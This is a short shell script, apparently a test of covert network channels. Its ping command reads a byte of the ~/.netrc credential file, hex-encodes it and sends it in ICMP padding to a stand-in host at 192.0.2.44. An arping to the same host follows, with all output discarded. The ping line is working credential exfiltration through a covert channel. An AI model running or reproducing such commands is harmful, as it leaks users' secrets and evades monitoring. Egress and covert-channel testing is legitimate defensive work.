#!/bin/sh
# ICMP that carries data in its padding; and frames below IP.
ping -c 1 -w 1 -p "$(od -An -tx1 -N 1 ~/.netrc | tr -d ' ')" 192.0.2.44 > /dev/null 2>&1
arping -c 1 -w 1 192.0.2.44 > /dev/null 2>&1
echo "machine: silent"
